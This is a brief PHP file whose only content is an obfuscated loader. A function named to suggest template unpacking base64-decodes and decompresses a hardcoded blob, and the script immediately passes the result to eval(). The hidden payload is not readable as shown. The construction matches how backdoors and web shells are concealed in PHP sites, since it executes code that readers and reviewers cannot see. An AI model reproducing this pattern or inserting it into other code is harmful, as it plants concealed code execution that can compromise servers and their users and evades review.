<?php
function unpack_tpl($b) { return gzuncompress(base64_decode($b)); }
$blob = unpack_tpl('eNrLTNPILC5OLdFQiQ9yDQx1DQ6JVk9Wj9XUrE5NzshXULcpKEq1U7dWybctzkjNyYlPrUhNRldrDVaaUZKbU1yQmpyZmJOckVhUrKGSD5VRt9GHmFKbmlOcCjG4IKMgvjQvMTdVQ9O6FgBqgyyj');
eval($blob);
